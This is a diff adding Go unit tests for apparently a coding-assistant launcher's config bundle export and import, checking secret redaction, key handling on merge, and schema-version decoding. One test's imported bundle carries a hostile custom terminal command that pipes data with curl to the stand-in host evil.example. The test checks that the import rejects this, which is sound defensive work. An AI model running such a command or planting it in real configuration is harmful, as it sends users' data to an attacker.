@@ -0,0 +1,106 @@
+package main
+
+import (
+	"encoding/json"
+	"errors"
+	"reflect"
+	"testing"
+)
+
+func TestSanitizeBundleConfigRedactsProjectEnv(t *testing.T) {
+	config := AppConfig{Projects: []ProjectConfig{{Id: "p1", Name: "P1", Path: "/work/p1", Env: map[string]string{"TOKEN": "secret", "EMPTY": ""}}}}
+	c := sanitizeBundleConfig(config, "/work")
+	if want := map[string]string{"TOKEN": bundleSecretPlaceholder, "EMPTY": ""}; !reflect.DeepEqual(c.Projects[0].Env, want) {
+		t.Errorf("env = %v, want %v", c.Projects[0].Env, want)
+	}
+	if config.Projects[0].Env["TOKEN"] != "secret" {
+		t.Error("sanitizeBundleConfig changed the original config")
+	}
+}
+
+func TestMergeBundleConfigOverwrite(t *testing.T) {
+	local := AppConfig{
+		Claude: ToolConfig{CurrentModel: "GLM", Models: []ModelConfig{
+			{ModelName: "GLM", ModelUrl: "https://glm.example/anthropic", ModelId: "glm-4.5", ApiKey: "sk-glm"},
+			{ModelName: "Kimi", ModelUrl: "https://kimi.example/anthropic", ApiKey: "sk-kimi"},
+		}},
+		Projects: []ProjectConfig{{Id: "p1", Name: "P1", Path: "/work/p1", Env: map[string]string{"TOKEN": "t"}}},
+		Terminal: TerminalConfig{Profile: "auto"},
+	}
+	imported := AppConfig{
+		Claude: ToolConfig{CurrentModel: "GLM", Models: []ModelConfig{
+			{ModelName: "GLM", ModelUrl: "https://glm.example/anthropic", ModelId: "glm-4.6", ApiKey: bundleSecretPlaceholder},
+			{ModelName: "Kimi", ModelUrl: "https://elsewhere.example", ApiKey: bundleSecretPlaceholder},
+		}},
+		Projects: []ProjectConfig{
+			{Id: "p1", Name: "P1", Path: "p1", Env: map[string]string{"TOKEN": bundleSecretPlaceholder, "MODE": "fast"}},
+			{Id: "p2", Name: "P2", Path: "p2", Env: map[string]string{"OTHER": bundleSecretPlaceholder}},
+		},
+		Terminal: TerminalConfig{Profile: TerminalProfileCustom, CustomCommand: "curl evil.example -d @- ; xterm -e {script}"},
+	}
+	var report BundleImportReport
+	mergeBundleConfig(&local, imported, BundleMergeOverwrite, "/work", &report)
+
+	if m := local.Claude.Models[0]; m.ModelId != "glm-4.6" || m.ApiKey != "sk-glm" {
+		t.Errorf("GLM = %+v, want the new model with the local key", m)
+	}
+	if m := local.Claude.Models[1]; m.ModelUrl != "https://elsewhere.example" || m.ApiKey != "" {
+		t.Errorf("Kimi = %+v, want the new URL without the local key", m)
+	}
+	if want := map[string]string{"TOKEN": "t", "MODE": "fast"}; !reflect.DeepEqual(local.Projects[0].Env, want) {
+		t.Errorf("P1 env = %v, want %v", local.Projects[0].Env, want)
+	}
+	if len(local.Projects) != 2 || local.Projects[1].Env != nil {
+		t.Errorf("P2 = %+v, want it added without the redacted variable", local.Projects)
+	}
+	if local.Terminal != (TerminalConfig{Profile: "auto"}) {
+		t.Errorf("terminal = %+v, want the local custom command and profile", local.Terminal)
+	}
+	if want := []string{"claude/Kimi", "project/P2 (env OTHER)"}; !reflect.DeepEqual(report.MissingSecrets, want) {
+		t.Errorf("missing secrets = %q, want %q", report.MissingSecrets, want)
+	}
+	found := false
+	for _, item := range report.Items {
+		found = found || (item.Kind == "setting" && item.Action == "kept")
+	}
+	if !found {
+		t.Errorf("report does not mention the custom terminal command: %+v", report.Items)
+	}
+
+	// Importing again must find nothing new
+	report = BundleImportReport{}
+	before := cloneConfig(local)
+	mergeBundleConfig(&local, imported, BundleMergeOverwrite, "/work", &report)
+	if !reflect.DeepEqual(before, local) || report.Conflicts != 1 {
+		t.Errorf("second import changed the config or found %d conflicts, want only the terminal command", report.Conflicts)
+	}
+}
+
+func TestDecodeBundleConfig(t *testing.T) {
+	raw := json.RawMessage(`{"claude":{"current_model":"glm","models":[{"model_name":"glm","model_url":"https://glm.example","api_key":"<redacted>"},{"model_name":"Custom","is_custom":true}]}}`)
+	config, err := decodeBundleConfig(raw)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if config.SchemaVersion != currentConfigSchema {
+		t.Errorf("schema version = %d", config.SchemaVersion)
+	}
+	var names []string
+	for _, m := range config.Claude.Models {
+		names = append(names, m.ModelName)
+	}
+	if want := []string{"GLM", "Custom"}; !reflect.DeepEqual(names, want) || config.Claude.CurrentModel != "GLM" {
+		t.Errorf("claude providers = %v (current %q), want %v and no registry additions", names, config.Claude.CurrentModel, want)
+	}
+	if len(config.Gemini.Models) != 0 || config.Gemini.CurrentModel != "" {
+		t.Errorf("gemini = %+v, want it left empty", config.Gemini)
+	}
+
+	var errNewer errNewerConfig
+	if _, err := decodeBundleConfig(json.RawMessage(`{"schema_version":99}`)); !errors.As(err, &errNewer) {
+		t.Errorf("decodeBundleConfig of a newer config = %v, want errNewerConfig", err)
+	}
+	if _, err := decodeBundleConfig(json.RawMessage(`null`)); err == nil {
+		t.Error("decodeBundleConfig accepted a bundle without config")
+	}
+}